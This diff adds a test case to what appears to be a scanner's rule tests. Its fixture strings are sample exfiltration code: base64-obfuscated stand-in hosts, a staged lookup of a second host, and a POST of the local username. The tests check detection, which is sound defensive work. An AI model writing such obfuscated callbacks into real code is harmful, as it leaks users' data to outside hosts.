@@ -53,3 +53,16 @@ def report(name):
     requests.post(base64.b64decode("aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA=="), json={"n": name})
 """
     assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]
+
+
+def test_an_address_that_a_hidden_place_tells(scan):
+    text = """import base64, getpass
+from http.client import HTTPSConnection
+def report():
+    first = HTTPSConnection(base64.b64decode("Y29sbGVjdC5leGFtcGxlLnRlc3QuY29sbGVjdC5leGFtcGxlLnRlc3Q=").decode())
+    first.request("GET", "/a")
+    host = base64.b64decode(first.getresponse().read()).decode()
+    second = HTTPSConnection(host)
+    second.request("POST", "/b", getpass.getuser())
+"""
+    assert (8, "HIGH", "HIGH", "run") in scan(RULE, text)
